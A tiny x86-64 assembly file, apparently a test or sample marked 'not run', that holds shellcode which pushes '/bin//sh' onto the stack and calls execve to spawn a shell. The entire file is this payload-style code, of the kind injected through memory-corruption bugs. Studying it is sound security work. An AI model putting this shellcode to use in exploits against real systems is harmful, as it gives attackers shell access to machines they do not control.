# not run: execve("/bin//sh") with push and pop
.globl _start
_start:
	xorl %edx, %edx
	pushq %rdx
	movabsq $0x68732f2f6e69622f, %rbx
	pushq %rbx
	movq %rsp, %rdi
	pushq %rdx
	pushq %rdi
	movq %rsp, %rsi
	pushq $0x3b
	popq %rax
	cltd
	syscall
